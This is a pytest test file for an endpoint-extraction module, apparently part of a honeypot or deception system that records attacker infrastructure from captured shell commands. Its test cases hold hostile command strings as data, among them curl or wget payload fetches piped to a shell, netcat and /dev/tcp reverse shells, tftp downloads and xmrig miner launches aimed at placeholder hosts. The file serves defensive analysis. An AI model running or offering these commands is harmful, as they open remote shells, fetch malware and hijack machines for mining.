import pytest

from decnet.ingest.endpoints import (
    endpoint_from_url,
    endpoints_from_command,
    make_endpoint,
    normalise_host,
)


def values(command: str) -> list[str]:
    return [endpoint.value for endpoint in endpoints_from_command(command)]


def test_url_host_lower_cased_and_default_port_dropped() -> None:
    endpoint = endpoint_from_url("HTTP://Evil.Example.COM:80/x.sh")
    assert endpoint is not None
    assert endpoint.value == "evil.example.com"


def test_url_keeps_non_default_port() -> None:
    endpoint = endpoint_from_url("http://198.51.100.99:6636/bins.sh")
    assert endpoint is not None
    assert endpoint.value == "198.51.100.99:6636"


def test_https_default_port_dropped() -> None:
    endpoint = endpoint_from_url("https://example.net:443/a")
    assert endpoint is not None
    assert endpoint.value == "example.net"


def test_internationalised_host_becomes_idna() -> None:
    assert normalise_host("bücher.example") == "xn--bcher-kva.example"


def test_trailing_dot_removed() -> None:
    assert normalise_host("Example.ORG.") == "example.org"


def test_path_is_not_an_endpoint() -> None:
    assert endpoint_from_url("/dev/null") is None


def test_code_forge_marked_public() -> None:
    endpoint = endpoint_from_url("https://raw.githubusercontent.com/u/r/main/x.sh")
    assert endpoint is not None
    assert endpoint.public


def test_plain_host_not_public() -> None:
    endpoint = make_endpoint("c2.example.net", 8080)
    assert endpoint is not None
    assert not endpoint.public


def test_loopback_is_not_an_endpoint() -> None:
    assert make_endpoint("127.0.0.1", 80) is None


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh", ["198.51.100.9"]),
        ("wget 198.51.100.9/bins.sh -O- | sh", ["198.51.100.9"]),
        ("busybox wget http://Loader.Example.com:8080/a", ["loader.example.com:8080"]),
        ("curl -fsSL c2.example.net/i.sh | bash", ["c2.example.net"]),
        ("tftp -g -r m.sh 203.0.113.77", ["203.0.113.77"]),
        ("busybox tftp 203.0.113.78 -c get t.sh", ["203.0.113.78"]),
        (
            "ftpget -v -u anonymous -p anonymous -P 2121 203.0.113.79 a.sh a.sh",
            ["203.0.113.79:2121"],
        ),
        ("nc 198.51.100.12 4444 -e /bin/sh", ["198.51.100.12:4444"]),
        ("bash -i >& /dev/tcp/198.51.100.13/9001 0>&1", ["198.51.100.13:9001"]),
        ("scp root@files.example.org:/x /tmp/x", ["files.example.org"]),
        ("echo 203.0.113.90 >> /etc/hosts", ["203.0.113.90"]),
        ("echo 10.0.0.1 127.0.0.1", []),
        ("uname -a", []),
        ("./xmrig -o pool.example.net:3333 -k", ["pool.example.net:3333"]),
        ("nohup /tmp/.x -o C2.Example.org:3333 &", ["c2.example.org:3333"]),
        ("./xmrig -o stratum+tcp://pool.example.net:3333", ["pool.example.net:3333"]),
        ("date +%H:%M; echo 12:30", []),
        ("cat x.sh bins.sh config.json", []),
        ("ping -c 1 c2.example.net", ["c2.example.net"]),
        ("ssh -i key.pem -p 2222 root@files.example.org", ["files.example.org:2222"]),
        ("ssh root@198.51.100.7 -p 2222", ["198.51.100.7:2222"]),
        (
            "ssh -o StrictHostKeyChecking=no admin@box.example.com id",
            ["box.example.com"],
        ),
        ("ssh localhost", []),
        ("telnet c2.example.net 23", ["c2.example.net"]),
        ("telnet 198.51.100.8 2323", ["198.51.100.8:2323"]),
    ],
)
def test_endpoints_from_command(command: str, expected: list[str]) -> None:
    assert values(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "./xmrig -o pool.supportxmr.com:3333",
        "ping -c 1 8.8.8.8",
        "curl -s https://api.ipify.org",
    ],
)
def test_shared_public_services_marked_public(command: str) -> None:
    (endpoint,) = endpoints_from_command(command)
    assert endpoint.public


def test_address_suffix_is_not_public() -> None:
    endpoint = make_endpoint("4.8.8.8", None)
    assert endpoint is not None
    assert not endpoint.public
